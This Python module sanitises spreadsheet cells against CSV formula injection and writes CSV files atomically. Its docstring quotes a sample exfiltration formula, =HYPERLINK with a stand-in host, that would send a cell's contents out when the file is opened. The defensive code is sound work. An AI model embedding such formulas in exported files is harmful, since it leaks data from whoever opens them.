"""Spreadsheet-safe text: every CSV and workbook the project writes passes its cells through here.

Excel, LibreOffice and Google Sheets evaluate a text cell that begins with ``=``, ``+``, ``-`` or ``@``
(and some strip a leading tab or carriage return first) as a formula: a scheme named
``=HYPERLINK("http://x/?d="&A1,"Click")`` would run when finance opens summary.csv. Such text gets a
leading apostrophe, which spreadsheets show as a text marker and never evaluate (OWASP's advice for
CSV injection). Numbers stay numbers, and text that is just a number (``-12.5``) is left alone:
spreadsheets read it as that number, not as a formula.
"""

from __future__ import annotations

import csv
import io
import os
import re
from collections.abc import Iterable, Mapping, Sequence
from pathlib import Path
from typing import Any

import pandas as pd

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
_NUMBER = re.compile(r"[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?")


def safe_text(text: str) -> str:
    """``text`` with a leading apostrophe if a spreadsheet would read it as a formula."""
    if text.startswith(FORMULA_START) and not _NUMBER.fullmatch(text):
        return "'" + text
    return text


def safe_cell(value: Any) -> Any:
    """A cell value made safe: text through :func:`safe_text`, everything else unchanged."""
    return safe_text(value) if isinstance(value, str) else value


def safe_frame(frame: pd.DataFrame) -> pd.DataFrame:
    """A copy of ``frame`` whose text cells and column names are safe; numbers are untouched."""
    out = frame.copy()
    for col in out.columns:
        if out[col].dtype == object or pd.api.types.is_string_dtype(out[col]) \
                or isinstance(out[col].dtype, pd.CategoricalDtype):
            out[col] = out[col].map(safe_cell)
    out.columns = [safe_cell(c) if isinstance(c, str) else c for c in out.columns]
    return out


def _atomic(path: Path, pieces: Iterable[str]) -> Path:
    """Write ``pieces`` one after another to a file beside ``path``, then put it in place."""
    path = Path(path)
    tmp = path.with_name(f".{path.name}.tmp-{os.getpid()}")
    with open(tmp, "w", encoding="utf-8", newline="") as f:
        for piece in pieces:
            f.write(piece)
    os.replace(tmp, path)
    return path


def write_csv(frame: pd.DataFrame, path: Path, *, excel: bool = False) -> Path:
    """Write ``frame`` as a CSV with safe cells, atomically. ``excel``: a UTF-8 byte-order mark, so that
    Excel reads accents and symbols right when the file is opened by double-click."""
    text = safe_frame(frame).to_csv(index=False, lineterminator="\r\n" if excel else "\n")
    return _atomic(path, [("\ufeff" if excel else "") + text])


def write_csv_slices(frames: Iterable[pd.DataFrame], path: Path) -> Path:
    """Write the rows of ``frames`` (same columns, in order) as one CSV with safe cells, atomically, one
    frame at a time: a writer that computes its table slice by slice never holds it whole."""
    return _atomic(path, (safe_frame(f).to_csv(index=False, header=(i == 0), lineterminator="\n")
                          for i, f in enumerate(frames)))


def write_rows(rows: Sequence[Mapping[str, Any]], path: Path, fields: Iterable[str] | None = None) -> Path:
    """Write dict rows as a CSV with safe cells (for writers that hold rows, not a frame)."""
    names = list(fields) if fields is not None else list(rows[0]) if rows else []
    buf = io.StringIO()
    w = csv.DictWriter(buf, fieldnames=[safe_text(n) for n in names], lineterminator="\n")
    w.writeheader()
    for r in rows:
        w.writerow({safe_text(n): safe_cell(r.get(n)) for n in names})
    return _atomic(path, [buf.getvalue()])
